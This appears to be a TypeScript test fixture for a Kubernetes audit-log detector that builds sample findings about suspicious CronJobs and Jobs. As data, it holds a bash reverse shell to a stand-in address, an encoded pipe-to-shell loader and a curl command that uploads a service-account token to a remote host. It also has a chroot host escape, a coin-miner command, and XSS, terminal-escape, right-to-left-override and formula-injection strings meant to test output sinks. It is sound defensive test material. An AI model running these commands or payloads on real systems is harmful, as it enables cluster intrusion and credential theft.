/**
 * Authored findings for the tests of every sink. People, clusters and addresses are invented (documentation ranges); the
 * commands are data that nothing runs. Each finding's breakdown adds up to its risk, and each pointer that begins with
 * the object's own pointer leads to a place in its body.
 */
import type {
  Finding,
  FindingActor,
  FindingAttack,
  FindingEvent,
  FindingEvidence,
  FindingIndicator,
  FindingWorkload,
  ScoreLine,
  Severity,
} from '../model/finding.ts';
import { SEVERITIES } from '../model/finding.ts';
import type { Because } from '../model/seen.ts';
import type { Summary } from '../model/summary.ts';
import type { Sink, SinkContext } from './sink.ts';

/** ESC, right-to-left override, zero-width space and bell: written as escapes so that this file shows what it holds. */
const ESC = '\u001b';
const RLO = '\u202e';
const ZWSP = '\u200b';
const BEL = '\u0007';

const ORCHESTRATION_JOB: FindingAttack = {
  version: '18.1',
  id: 'T1053.007',
  name: 'Container Orchestration Job',
  tactics: ['execution', 'persistence', 'privilege-escalation'],
};
const ESCAPE_TO_HOST: FindingAttack = {
  version: '18.1',
  id: 'T1611',
  name: 'Escape to Host',
  tactics: ['privilege-escalation'],
};
const UNIX_SHELL: FindingAttack = {
  version: '18.1',
  id: 'T1059.004',
  name: 'Unix Shell',
  tactics: ['execution'],
};

const TEMPLATE = '/requestObject/spec/jobTemplate/spec/template/spec';
const JOB_TEMPLATE = '/requestObject/spec/template/spec';

const evidence = (
  says: string,
  pointer: string,
  value: string,
  more: { readonly container?: string; readonly decoded?: readonly string[] } = {},
): FindingEvidence => ({ says, pointer, value, container: more.container ?? null, decoded: more.decoded ?? [] });

const indicator = (
  id: string,
  title: string,
  severity: Severity,
  weight: number,
  ...found: readonly FindingEvidence[]
): FindingIndicator => ({ id, title, severity, weight, evidence: found });

const because = (reason: Because, ...ids: readonly string[]): readonly { id: string; because: Because }[] =>
  ids.map((id) => ({ id, because: reason }));

interface Parts {
  readonly id: string;
  readonly group: string;
  readonly title: string;
  readonly summary: string;
  readonly severity: Severity;
  readonly confidence: number;
  readonly indicators: readonly FindingIndicator[];
  /** Lines of the sum besides one for each indicator. */
  readonly lines?: readonly ScoreLine[];
  readonly why?: { readonly severity: string; readonly confidence: string };
  readonly attack?: readonly FindingAttack[];
  readonly cluster?: string;
  /** First and last time; the same when one is given. */
  readonly times: readonly [string, string] | readonly [string] | null;
  readonly timeExact?: boolean;
  readonly workload: Partial<FindingWorkload>;
  readonly actor: Partial<FindingActor>;
  readonly request?: Finding['request'];
  readonly unassessed?: Finding['unassessed'];
  readonly event?: Partial<FindingEvent>;
  readonly sentinel?: Finding['compat']['sentinel'];
  readonly object?: unknown;
  readonly objectPointer?: string;
}

/** A whole finding from the parts that a case is about; the risk is the sum of its lines. */
export const sampleFinding = (parts: Parts): Finding => {
  const risk: readonly ScoreLine[] = [
    ...parts.indicators.map((one) => ({ points: one.weight, reason: `${one.id}: ${one.title}` })),
    ...(parts.lines ?? []),
  ];
  const first = parts.times?.[0] ?? null;
  const workload: FindingWorkload = {
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    namespace: 'default',
    name: null,
    uid: null,
    schedule: null,
    generateName: null,
    serviceAccount: null,
    images: [],
    templateHash: null,
    ...parts.workload,
  };
  const request = parts.request ?? { verb: 'create', outcome: 'accepted', code: 201 };
  return {
    schema: 'cronwarden.finding/v1',
    id: parts.id,
    ruleset: '2026.11-sample',
    group: parts.group,
    title: parts.title,
    summary: parts.summary,
    severity: parts.severity,
    risk: risk.reduce((sum, line) => sum + line.points, 0),
    confidence: parts.confidence,
    breakdown: {
      risk,
      severity: parts.why?.severity ?? `${parts.severity}: the worst reason that stands on its own`,
      confidence: parts.why?.confidence ?? 'the body was logged whole and the request was accepted',
    },
    attack: parts.attack ?? [ORCHESTRATION_JOB],
    cluster: parts.cluster ?? 'prod-weu-1',
    firstSeen: first,
    lastSeen: parts.times?.[1] ?? first,
    timeExact: parts.timeExact ?? true,
    count: 1,
    workload,
    actor: {
      username: null,
      groups: [],
      impersonatedBy: null,
      userAgent: null,
      sourceIps: [],
      kind: 'human',
      ...parts.actor,
    },
    request,
    indicators: parts.indicators,
    unassessed: parts.unassessed ?? [],
    events: [
      {
        auditId: `5f0c1c1e-0000-4000-8000-${parts.id.slice(0, 12)}`,
        time: first,
        verb: request.verb,
        source: 'audit/kube-apiserver-2026-11-24.jsonl',
        offset: 104_857,
        ...parts.event,
      },
    ],
    lineage: [],
    compat: { sentinel: parts.sentinel ?? null },
    object:
      parts.object === undefined
        ? null
        : { pointer: parts.objectPointer ?? '/requestObject', kind: 'object', body: parts.object },
  };
};

const NO_FLAGS = {
  IsSuspiciousImage: false,
  IsSuspiciousCommand: false,
  IsHostPathMount: false,
  IsPrivileged: false,
  IsHostNetwork: false,
  IsSensitiveMount: false,
  IsServiceAccountToken: false,
  SuspicionScore: 0,
} as const;

const cronJob = (
  name: string,
  namespace: string,
  schedule: string,
  pod: Readonly<Record<string, unknown>>,
  annotations?: Readonly<Record<string, string>>,
): unknown => ({
  apiVersion: 'batch/v1',
  kind: 'CronJob',
  metadata: annotations === undefined ? { name, namespace } : { name, namespace, annotations },
  spec: {
    schedule,
    concurrencyPolicy: 'Forbid',
    successfulJobsHistoryLimit: 0,
    failedJobsHistoryLimit: 0,
    jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', ...pod } } } },
  },
});

const REVERSE_SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';

const reverseShellAt = (id: string, times: Parts['times'], verb: 'create' | 'update' | 'patch'): Finding =>
  sampleFinding({
    id,
    group: 'prod-weu-1/CronJob/kube-system/node-health-sync/command',
    title: 'CronJob in kube-system opens a shell to 203.0.113.7 every five minutes',
    summary:
      'maya.lindqvist@example.com created the CronJob node-health-sync in kube-system, which decodes a hidden command and connects a shell to 203.0.113.7:4444.',
    severity: 'critical',
    confidence: 0.97,
    indicators: [
      indicator(
        'command.reverse-shell',
        'Container connects a shell to a remote address',
        'critical',
        45,
        evidence(
          'Container "sync" hands an interactive bash to 203.0.113.7 port 4444.',
          `${TEMPLATE}/containers/0/args/0`,
          REVERSE_SHELL,
          { container: 'sync', decoded: ['base64', 'gzip'] },
        ),
      ),
      indicator(
        'command.encoded',
        'Command hides its text in layers of encoding',
        'high',
        18,
        evidence(
          'Container "sync" decodes text and runs it in one step.',
          `${TEMPLATE}/containers/0/args/0`,
          'echo H4sIAAAAAAAAA0vKTMvMUQAAx2vXpQUAAAA= | base64 -d | gunzip | sh',
          { container: 'sync' },
        ),
      ),
      indicator(
        'namespace.kube-system',
        'A person schedules work in kube-system',
        'medium',
        14,
        evidence('Only the cluster itself and its operators write here.', '/objectRef/namespace', 'kube-system'),
      ),
      indicator(
        'history.none-kept',
        'Finished runs leave no trace',
        'low',
        6,
        evidence('No successful run is kept.', '/requestObject/spec/successfulJobsHistoryLimit', '0'),
        evidence('No failed run is kept.', '/requestObject/spec/failedJobsHistoryLimit', '0'),
      ),
    ],
    lines: [
      { points: 8, reason: 'two reasons strengthen each other: an encoded command that turns out to be a shell' },
      { points: 5, reason: 'the request was accepted' },
    ],
    why: {
      severity: 'critical: command.reverse-shell is critical alone and the request was accepted',
      confidence: '0.97: the whole body was logged, and the decoded command leaves one reading only',
    },
    attack: [ORCHESTRATION_JOB, UNIX_SHELL],
    times,
    workload: {
      namespace: 'kube-system',
      name: 'node-health-sync',
      schedule: '*/5 * * * *',
      serviceAccount: 'default',
      images: [{ name: 'docker.io/library/bash:5', digest: null }],
      templateHash: '9a1f6c0de2b74c55',
    },
    actor: {
      username: 'maya.lindqvist@example.com',
      groups: ['developers', 'system:authenticated'],
      userAgent: 'kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0',
      sourceIps: ['198.51.100.23', '192.0.2.14'],
      kind: 'human',
    },
    request: { verb, outcome: 'accepted', code: verb === 'create' ? 201 : 200 },
    unassessed: [...because('no-baseline', 'actor.new-in-namespace'), ...because('rights-unknown', 'token.powerful')],
    sentinel: { ...NO_FLAGS, IsSuspiciousCommand: true, SuspicionScore: 1 },
    object: cronJob('node-health-sync', 'kube-system', '*/5 * * * *', {
      containers: [
        {
          name: 'sync',
          image: 'docker.io/library/bash:5',
          command: ['/bin/sh', '-c'],
          args: ['echo H4sIAAAAAAAAA0vKTMvMUQAAx2vXpQUAAAA= | base64 -d | gunzip | sh'],
          env: [{ name: 'API_TOKEN', value: '••• masked, 40 characters' }],
          resources: { limits: { memory: '64Mi' } },
        },
      ],
    }),
  });

export const reverseShell: Finding = reverseShellAt('a3f81c0de97b4c02', ['2026-11-24T02:14:07.120000Z'], 'create');

/** Thirteen further writes of the same object: a group of fourteen together with `reverseShell`. */
export const reverseShellRepeats: readonly Finding[] = Array.from({ length: 13 }, (_, at) =>
  reverseShellAt(
    `a3f81c0de97b4d${(at + 16).toString(16)}`,
    [`2026-11-24T${String(3 + Math.floor(at / 2)).padStart(2, '0')}:${at % 2 === 0 ? '14' : '44'}:07.500000Z`],
    at % 2 === 0 ? 'update' : 'patch',
  ),
);

export const hostRootJob: Finding = sampleFinding({
  id: 'c07d55e1b2a94f10',
  group: 'prod-weu-1/Job/web/cache-warmup/host',
  title: 'A pod\u2019s service account starts a privileged Job that enters the node',
  summary:
    'The service account storefront in web created the Job cache-warmup, which mounts the root of the node and changes into it as root.',
  severity: 'critical',
  confidence: 0.94,
  indicators: [
    indicator(
      'command.host-chroot',
      'Container changes its root to the node\u2019s file system',
      'critical',
      40,
      evidence(
        'Container "warm" runs a shell with the node\u2019s root as its own.',
        `${JOB_TEMPLATE}/containers/0/command`,
        'chroot /host /bin/sh -c "crontab -l; id > /var/tmp/.w"',
        { container: 'warm' },
      ),
    ),
    indicator(
      'mount.host-root',
      'The node\u2019s root directory is mounted',
      'high',
      22,
      evidence('Volume "node" is the whole disk of the node.', `${JOB_TEMPLATE}/volumes/0/hostPath/path`, '/'),
      evidence('It can be written to.', `${JOB_TEMPLATE}/containers/0/volumeMounts/0`, '/host', { container: 'warm' }),
    ),
    indicator(
      'pod.privileged',
      'Container runs privileged',
      'high',
      18,
      evidence(
        'Nothing separates it from the node.',
        `${JOB_TEMPLATE}/containers/0/securityContext/privileged`,
        'true',
        {
          container: 'warm',
        },
      ),
    ),
    indicator(
      'actor.workload-token',
      'A running pod creates workloads',
      'medium',
      8,
      evidence(
        'The token of a web shop\u2019s pod was used.',
        '/user/username',
        'system:serviceaccount:web:storefront',
      ),
    ),
  ],
  lines: [{ points: 5, reason: 'the request was accepted' }],
  attack: [ORCHESTRATION_JOB, ESCAPE_TO_HOST],
  times: ['2026-11-23T21:40:12.004100Z'],
  workload: {
    kind: 'Job',
    namespace: 'web',
    name: 'cache-warmup',
    serviceAccount: 'storefront',
    images: [
      { name: 'alpine:3.22', digest: 'sha256:5f70bf18a086007016e948b04aed3b82103a36bea41755b6cddfaf10ace3c6ef' },
    ],
    templateHash: '41c2dd8aa90b11e3',
  },
  actor: {
    username: 'system:serviceaccount:web:storefront',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:web', 'system:authenticated'],
    userAgent: 'Go-http-client/2.0',
    sourceIps: ['192.0.2.77'],
    kind: 'service-account',
  },
  unassessed: because('no-baseline', 'actor.new-in-namespace'),
  sentinel: { ...NO_FLAGS, IsHostPathMount: true, IsPrivileged: true, SuspicionScore: 2 },
  event: { offset: 88_120_442 },
  object: {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: 'cache-warmup', namespace: 'web' },
    spec: {
      backoffLimit: 0,
      ttlSecondsAfterFinished: 0,
      template: {
        spec: {
          restartPolicy: 'Never',
          serviceAccountName: 'storefront',
          containers: [
            {
              name: 'warm',
              image: 'alpine:3.22',
              command: ['chroot', '/host', '/bin/sh', '-c', 'crontab -l\nid > /var/tmp/.w\n'],
              securityContext: { privileged: true },
              volumeMounts: [{ name: 'node', mountPath: '/host' }],
            },
          ],
          volumes: [{ name: 'node', hostPath: { path: '/', type: 'Directory' } }],
        },
      },
    },
  },
});

const BODY_INDICATORS = [
  'command.encoded',
  'command.remote-fetch',
  'command.reverse-shell',
  'image.untrusted',
  'mount.host-root',
  'mount.runtime-socket',
  'pod.host-namespaces',
  'pod.privileged',
  'token.automount',
] as const;

export const unseenBody: Finding = sampleFinding({
  id: '1be2907733cc4a5d',
  group: 'prod-weu-1/CronJob/kube-system/metrics-relay/actor',
  title: 'A build account schedules work in kube-system, and the log does not show what',
  summary:
    'ci-runner created the CronJob metrics-relay in kube-system. The audit policy logs this at level Metadata, so its command and image are not known.',
  severity: 'medium',
  confidence: 0.4,
  indicators: [
    indicator(
      'namespace.kube-system',
      'Work is scheduled in kube-system by something that does not live there',
      'medium',
      14,
      evidence('A build account wrote to kube-system.', '/objectRef/namespace', 'kube-system'),
    ),
    indicator(
      'actor.workload-token',
      'A running pod creates workloads',
      'medium',
      16,
      evidence('The account belongs to pods in ci.', '/user/username', 'system:serviceaccount:ci:ci-runner'),
    ),
  ],
  lines: [{ points: 5, reason: 'the request was accepted' }],
  why: {
    severity: 'medium: the reasons that could be assessed deserve no more',
    confidence: '0.40: nine indicators could not be assessed because the body was not logged',
  },
  times: ['2026-11-24T09:02:55.000000Z'],
  workload: { namespace: 'kube-system', name: 'metrics-relay' },
  actor: {
    username: 'system:serviceaccount:ci:ci-runner',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:ci'],
    userAgent: 'kubectl/v1.31.0 (linux/arm64)',
    sourceIps: ['192.0.2.90'],
    kind: 'service-account',
  },
  unassessed: because('level-metadata', ...BODY_INDICATORS),
  sentinel: NO_FLAGS,
});

export const refusedAnonymous: Finding = sampleFinding({
  id: '77aa01dd5e3b4410',
  group: 'prod-weu-1/CronJob/kube-system/anonymous',
  title: 'Someone without a name tried to schedule a CronJob in kube-system and was refused',
  summary: 'An unauthenticated client asked to create a CronJob in kube-system; the API server refused it with 403.',
  severity: 'high',
  confidence: 0.88,
  indicators: [
    indicator(
      'actor.anonymous',
      'An unauthenticated client writes workloads',
      'high',
      38,
      evidence('The request carried no credentials.', '/user/username', 'system:anonymous'),
    ),
    indicator(
      'object.removed-version',
      'An API version is asked for that the cluster no longer serves',
      'low',
      12,
      evidence('batch/v1beta1 was removed in 1.25; attack tools still ask for it.', '/objectRef/apiVersion', 'v1beta1'),
    ),
  ],
  lines: [{ points: -8, reason: 'the request was refused' }],
  times: ['2026-11-22T03:11:40.000000Z'],
  workload: { apiVersion: 'batch/v1beta1', namespace: 'kube-system' },
  actor: {
    username: 'system:anonymous',
    groups: ['system:unauthenticated'],
    userAgent: 'Go-http-client/1.1',
    sourceIps: ['203.0.113.99'],
    kind: 'anonymous',
  },
  request: { verb: 'create', outcome: 'refused', code: 403 },
  unassessed: because('refused-before-read', ...BODY_INDICATORS.slice(0, 6)),
  sentinel: NO_FLAGS,
});

export const quietBackup: Finding = sampleFinding({
  id: '0c11d2e3f4a55b66',
  group: 'staging-1/CronJob/billing/nightly-backup/image',
  title: 'Nightly backup runs an image that is not pinned',
  summary: 'deploy-bot updated the CronJob nightly-backup in billing; its image has a tag that can change.',
  severity: 'low',
  confidence: 0.7,
  indicators: [
    indicator(
      'image.untagged',
      'The image can change without another write',
      'low',
      9,
      evidence('Tag "latest" moves.', `${TEMPLATE}/containers/0/image`, 'registry.example.com/tools/pgdump:latest', {
        container: 'dump',
      }),
    ),
  ],
  lines: [{ points: 5, reason: 'the request was accepted' }],
  cluster: 'staging-1',
  times: ['2026-11-21T18:00:00.000000Z'],
  workload: {
    namespace: 'billing',
    name: 'nightly-backup',
    schedule: '0 2 * * *',
    serviceAccount: 'backup',
    images: [{ name: 'registry.example.com/tools/pgdump:latest', digest: null }],
  },
  actor: {
    username: 'deploy-bot@example.com',
    groups: ['deployers'],
    userAgent: 'argocd-application-controller/v3.1.0',
    sourceIps: ['192.0.2.31'],
    kind: 'human',
  },
  request: { verb: 'update', outcome: 'accepted', code: 200 },
  sentinel: { ...NO_FLAGS, IsSuspiciousImage: true, SuspicionScore: 1 },
  object: cronJob('nightly-backup', 'billing', '0 2 * * *', {
    serviceAccountName: 'backup',
    containers: [
      {
        name: 'dump',
        image: 'registry.example.com/tools/pgdump:latest',
        command: ['/usr/local/bin/backup.sh'],
        envFrom: [{ secretRef: { name: 'billing-db' } }],
      },
    ],
  }),
});

const HOSTILE_SCRIPT = '<script>document.title="owned"</script>';
const HOSTILE_IMAGE = '"><img src=x onerror=window.owned=1>';
const LONG_COMMAND = `sh -c "${'curl -fsS https://cdn.example.com/a/b/c?part='.concat('0123456789abcdef'.repeat(400))} | sh"`;

export const hostileNames: Finding = sampleFinding({
  id: 'deadbeef00c0ffee',
  group: `prod-weu-1/CronJob/${HOSTILE_SCRIPT}/${ESC}[2J/command`,
  title: `CronJob ${HOSTILE_SCRIPT} ${ESC}[31;1mALL CLEAR${ESC}[0m pipes a download into a shell`,
  summary: `${HOSTILE_IMAGE} created a CronJob whose name ends in ${RLO}gpj.exe and whose command is ${LONG_COMMAND.length} characters long.`,
  severity: 'high',
  confidence: 0.9,
  indicators: [
    indicator(
      'command.remote-fetch',
      'Scheduled container pipes a download into a shell',
      'high',
      35,
      evidence(
        `Container "a${ZWSP}b${BEL}" downloads a script and runs it in one step. </script><!--`,
        `${TEMPLATE}/containers/0/command/2`,
        LONG_COMMAND,
        { container: `a${ZWSP}b${BEL}` },
      ),
    ),
    indicator(
      'object.disguised-name',
      'A name is written to be misread',
      'medium',
      20,
      evidence(
        'The name holds a character that reverses the text after it.',
        '/requestObject/metadata/annotations/example.com~1note',
        `invoice${RLO}gpj.exe ${ESC}]0;pwned${BEL}${ESC}[1A${ESC}[2K`,
      ),
    ),
  ],
  lines: [{ points: 5, reason: 'the request was accepted' }],
  times: ['2026-11-24T08:30:00.000000Z'],
  workload: {
    namespace: HOSTILE_SCRIPT,
    name: `x${ESC}[8m-hidden${RLO}`,
    schedule: `* * * * *${ESC}[2J`,
    serviceAccount: HOSTILE_IMAGE,
    images: [{ name: `registry.example.com/${'very-long-path-segment/'.repeat(12)}image${RLO}`, digest: null }],
  },
  actor: {
    username: HOSTILE_IMAGE,
    groups: [`${ESC}[5mgroup`, '</script><svg onload=window.owned=1>'],
    impersonatedBy: `admin${RLO}`,
    userAgent: `curl/8.0 ${ESC}[31m\r\nX: <b>bold</b> {{7*7}} =cmd|' /C calc'!A0`,
    sourceIps: ['203.0.113.66\u0000', '192.0.2.5'],
    kind: 'human',
  },
  unassessed: because('no-baseline', 'actor.new-in-namespace'),
  sentinel: { ...NO_FLAGS, IsSuspiciousCommand: true, SuspicionScore: 1 },
  event: { auditId: `${ESC}[2Jaudit<script>`, source: `logs/${ESC}]0;x${BEL}<b>.jsonl`, offset: 0 },
  object: cronJob(
    `x${ESC}[8m-hidden${RLO}`,
    HOSTILE_SCRIPT,
    '* * * * *',
    {
      containers: [
        {
          name: `a${ZWSP}b${BEL}`,
          image: HOSTILE_IMAGE,
          command: ['sh', '-c', LONG_COMMAND],
          securityContext: JSON.parse('{"__proto__":{"constructor":null}}'),
        },
      ],
    },
    { 'example.com/note': `invoice${RLO}gpj.exe ${ESC}]0;pwned${BEL}`, 'a: [b': '--- !!js/function "x" # *a &b' },
  ),
});

export const wideCharacters: Finding = sampleFinding({
  id: '5a5a77e01b2c3d4e',
  group: 'prod-weu-1/Job/数据-分析/备份任务/command',
  title: 'Job 备份任务🦊 mines coins: ブロックチェーン採掘プログラムを実行するコンテナ',
  summary:
    '李雷@例え.example.com created the Job 备份任务 in 数据-分析, whose container speaks the protocol of a mining pool.',
  severity: 'high',
  confidence: 0.86,
  indicators: [
    indicator(
      'command.miner',
      'Container runs a coin miner',
      'high',
      42,
      evidence(
        'コンテナ「採掘」は採掘プールに接続する。It connects to a mining pool and hides behind a friendly name 👩‍💻.',
        `${JOB_TEMPLATE}/containers/0/args`,
        './矿工 --url stratum+tcp://pool.example.com:3333 --user 钱包地址钱包地址钱包地址钱包地址 --threads 全部 🚀🚀🚀🚀🚀🚀',
        { container: '採掘' },
      ),
    ),
    indicator(
      'image.tool',
      'Image is a known mining image',
      'medium',
      15,
      evidence('The image\u2019s name says so.', `${JOB_TEMPLATE}/containers/0/image`, 'docker.io/例え/xmrig:最新', {
        container: '採掘',
      }),
    ),
  ],
  lines: [{ points: 5, reason: 'the request was accepted' }],
  times: ['2026-11-20T11:05:00.000000Z', '2026-11-20T11:05:30.000000Z'],
  workload: {
    kind: 'Job',
    namespace: '数据-分析',
    name: '备份任务',
    images: [{ name: 'docker.io/例え/xmrig:最新', digest: null }],
  },
  actor: {
    username: '李雷@例え.example.com',
    groups: ['データ班'],
    userAgent: 'kubectl/v1.33 🦊',
    sourceIps: ['198.51.100.8'],
  },
  sentinel: { ...NO_FLAGS, IsSuspiciousImage: true, SuspicionScore: 1 },
  object: {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { name: '备份任务', namespace: '数据-分析' },
    spec: {
      template: {
        spec: {
          restartPolicy: 'Never',
          containers: [
            {
              name: '採掘',
              image: 'docker.io/例え/xmrig:最新',
              args: ['--url', 'stratum+tcp://pool.example.com:3333', '--user', '钱包地址钱包地址', '--threads', '全部'],
            },
          ],
        },
      },
    },
  },
});

export const cutRecord: Finding = sampleFinding({
  id: '6e0f9d8c7b6a5940',
  group: 'aks-prod/CronJob/payments/ledger-sync/token',
  title: 'CronJob reads its service-account token and sends it away',
  summary:
    'A CronJob in payments posts its token to collect.example.net. The record was cut, so a part of it is not known.',
  severity: 'high',
  confidence: 0.72,
  indicators: [
    indicator(
      'command.token-upload',
      'Container sends its token to a remote address',
      'high',
      40,
      evidence(
        'Container "sync" uploads the mounted token.',
        `${TEMPLATE}/containers/0/command/2`,
        'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://collect.example.net/k',
        { container: 'sync' },
      ),
    ),
  ],
  lines: [{ points: 6, reason: 'the namespace holds payment data' }],
  why: {
    severity: 'high: command.token-upload is high alone',
    confidence: '0.72: the record was cut, so the outcome of the request is not known',
  },
  cluster: 'aks-prod',
  times: ['2026-11-19T07:45:09.000000Z'],
  timeExact: false,
  workload: { namespace: 'payments', name: 'ledger-sync', schedule: '@hourly', serviceAccount: 'ledger' },
  actor: {
    username: 'pieter.vos@example.com',
    groups: ['payments-admins'],
    userAgent: 'Lens/2026.10',
    sourceIps: ['198.51.100.71'],
  },
  request: { verb: 'create', outcome: 'unknown', code: null },
  unassessed: because('truncated', 'mount.host-root', 'mount.runtime-socket', 'token.automount'),
  sentinel: null,
  object: cronJob('ledger-sync', 'payments', '@hourly', {
    serviceAccountName: 'ledger',
    containers: [
      {
        name: 'sync',
        image: 'curlimages/curl:8.10.1',
        command: [
          'sh',
          '-c',
          'curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://collect.example.net/k',
        ],
      },
    ],
  }),
});

export const imagePatch: Finding = sampleFinding({
  id: '93c4b5a6978877aa',
  group: 'prod-weu-1/CronJob/reports/weekly-digest/image',
  title: 'Patch swaps the image of an existing CronJob for one from another registry',
  summary: 'tomasz.k@example.com patched the CronJob weekly-digest in reports to run an image from 203.0.113.50:5000.',
  severity: 'medium',
  confidence: 0.6,
  indicators: [
    indicator(
      'image.registry-by-address',
      'Image comes from a registry that is a bare address',
      'medium',
      26,
      evidence('The registry is an address, not a name.', '/requestObject/0/value', '203.0.113.50:5000/digest:2'),
    ),
  ],
  lines: [{ points: 5, reason: 'the request was accepted' }],
  times: ['2026-11-23T10:20:00.000000Z'],
  workload: {
    namespace: 'reports',
    name: 'weekly-digest',
    images: [{ name: '203.0.113.50:5000/digest:2', digest: null }],
  },
  actor: {
    username: 'tomasz.k@example.com',
    groups: ['reporting'],
    userAgent: 'kubectl/v1.33.1 (darwin/arm64)',
    sourceIps: ['198.51.100.40'],
  },
  request: { verb: 'patch', outcome: 'accepted', code: 200 },
  unassessed: [
    ...because('patch-without-base', 'mount.host-root', 'pod.privileged', 'pod.host-namespaces'),
    ...because('patch-type-unknown', 'command.remote-fetch'),
  ],
  sentinel: NO_FLAGS,
  objectPointer: '/requestObject',
  object: [
    {
      op: 'replace',
      path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
      value: '203.0.113.50:5000/digest:2',
    },
  ],
});

const nodeAgent = (id: string, namespace: string, time: string): Finding =>
  sampleFinding({
    id,
    group: 'prod-weu-1/CronJob/*/node-agent/host',
    title: 'CronJob holds the socket of the container runtime',
    summary: `helm created the CronJob node-agent in ${namespace}, which mounts the runtime socket and the host network.`,
    severity: 'medium',
    confidence: 0.65,
    indicators: [
      indicator(
        'mount.runtime-socket',
        'The container runtime\u2019s socket is mounted',
        'high',
        24,
        evidence(
          'Who holds the socket holds the node.',
          `${TEMPLATE}/volumes/0/hostPath/path`,
          '/run/containerd/containerd.sock',
        ),
      ),
      indicator(
        'pod.host-namespaces',
        'The pod shares the node\u2019s network',
        'medium',
        12,
        evidence('hostNetwork is set.', `${TEMPLATE}/hostNetwork`, 'true'),
      ),
    ],
    lines: [
      { points: 5, reason: 'the request was accepted' },
      { points: -6, reason: 'the actor is a release tool that writes this object in several namespaces' },
    ],
    times: [time],
    workload: { namespace, name: 'node-agent', schedule: '*/15 * * * *', serviceAccount: 'node-agent' },
    actor: {
      username: 'platform-team@example.com',
      groups: ['platform'],
      userAgent: 'Helm/4.0.1',
      sourceIps: ['192.0.2.200'],
    },
    sentinel: { ...NO_FLAGS, IsHostPathMount: true, IsHostNetwork: true, IsSensitiveMount: true, SuspicionScore: 3 },
    object: cronJob('node-agent', namespace, '*/15 * * * *', {
      hostNetwork: true,
      serviceAccountName: 'node-agent',
      containers: [
        {
          name: 'agent',
          image: 'registry.example.com/platform/node-agent:4.2',
          volumeMounts: [{ name: 'sock', mountPath: '/run/containerd/containerd.sock', readOnly: true }],
        },
      ],
      volumes: [{ name: 'sock', hostPath: { path: '/run/containerd/containerd.sock' } }],
    }),
  });

export const nodeAgents: readonly Finding[] = [
  nodeAgent('31415926535897aa', 'monitoring', '2026-11-18T12:00:00.000000Z'),
  nodeAgent('31415926535897ab', 'logging', '2026-11-18T12:00:02.000000Z'),
  nodeAgent('31415926535897ac', 'tracing', '2026-11-18T12:00:04.000000Z'),
];

export const dryRun: Finding = sampleFinding({
  id: '2718281828459045',
  group: 'staging-1/Job/qa/smoke/dry-run',
  title: 'A dry run of a Job with an extra capability',
  summary: 'qa-bot asked whether a Job with NET_ADMIN would be accepted in qa; nothing was stored.',
  severity: 'info',
  confidence: 0.5,
  indicators: [
    indicator(
      'pod.capability',
      'Container asks for a powerful capability',
      'low',
      10,
      evidence(
        'NET_ADMIN changes the network of the pod.',
        `${JOB_TEMPLATE}/containers/0/securityContext/capabilities/add/0`,
        'NET_ADMIN',
        { container: 'smoke' },
      ),
    ),
  ],
  lines: [{ points: -6, reason: 'a dry run stores nothing' }],
  cluster: 'staging-1',
  times: ['2026-11-22T16:30:00.000000Z'],
  workload: {
    kind: 'Job',
    namespace: 'qa',
    generateName: 'smoke-',
    images: [{ name: 'nicolaka/netshoot:v0.13', digest: null }],
  },
  actor: { username: 'qa-bot@example.com', groups: [], userAgent: 'pytest/8', sourceIps: ['192.0.2.61'] },
  request: { verb: 'create', outcome: 'dry-run', code: 201 },
  sentinel: NO_FLAGS,
  object: {
    apiVersion: 'batch/v1',
    kind: 'Job',
    metadata: { generateName: 'smoke-', namespace: 'qa' },
    spec: {
      template: {
        spec: {
          restartPolicy: 'Never',
          containers: [
            {
              name: 'smoke',
              image: 'nicolaka/netshoot:v0.13',
              securityContext: { capabilities: { add: ['NET_ADMIN'] } },
            },
          ],
        },
      },
    },
  },
});

export const nothingKnown: Finding = sampleFinding({
  id: '00000000000000ff',
  group: 'unknown/CronJob/unknown',
  title: 'A CronJob was written, and most of the record is lost',
  summary: 'The record was cut before it named an actor, a time or an outcome.',
  severity: 'low',
  confidence: 0.15,
  indicators: [
    indicator(
      'record.cut-early',
      'The record ends before its most telling fields',
      'low',
      10,
      evidence('The record ends inside its body.', '', 'cut at 16,384 bytes'),
    ),
  ],
  cluster: 'unknown',
  times: null,
  timeExact: false,
  workload: { apiVersion: null, namespace: null },
  actor: { kind: 'human' },
  request: { verb: 'create', outcome: 'unknown', code: null },
  unassessed: because('not-kept', ...BODY_INDICATORS),
  event: { auditId: null, time: null, source: '-', offset: 0 },
});

export const impersonation: Finding = sampleFinding({
  id: 'feedc0de12345678',
  group: 'prod-weu-1/CronJob/default/cleanup/actor',
  title: 'A support engineer acts as a cluster administrator and schedules a cleanup',
  summary:
    'noor.haddad@example.com impersonated cluster-admin and created the CronJob cleanup with the rights of a node agent.',
  severity: 'medium',
  confidence: 0.58,
  indicators: [
    indicator(
      'actor.impersonated',
      'Workload is written under a borrowed identity',
      'medium',
      20,
      evidence('The request ran as another user.', '/impersonatedUser/username', 'cluster-admin'),
    ),
    indicator(
      'token.automount',
      'The service-account token is mounted on purpose',
      'low',
      9,
      evidence('The token is asked for.', `${TEMPLATE}/automountServiceAccountToken`, 'true'),
    ),
  ],
  lines: [{ points: 5, reason: 'the request was accepted' }],
  times: ['2026-11-21T06:12:00.000000Z'],
  workload: {
    name: 'cleanup',
    schedule: '30 4 * * 0',
    serviceAccount: 'node-agent',
    images: [{ name: 'bitnami/kubectl:1.33', digest: null }],
  },
  actor: {
    username: 'cluster-admin',
    groups: ['system:masters'],
    impersonatedBy: 'noor.haddad@example.com',
    userAgent: 'kubectl/v1.33.1',
    sourceIps: ['198.51.100.12'],
  },
  sentinel: { ...NO_FLAGS, IsServiceAccountToken: true, SuspicionScore: 1 },
  object: cronJob('cleanup', 'default', '30 4 * * 0', {
    automountServiceAccountToken: true,
    serviceAccountName: 'node-agent',
    containers: [
      {
        name: 'cleanup',
        image: 'bitnami/kubectl:1.33',
        command: ['kubectl', 'delete', 'jobs', '--field-selector', 'status.successful=1'],
      },
    ],
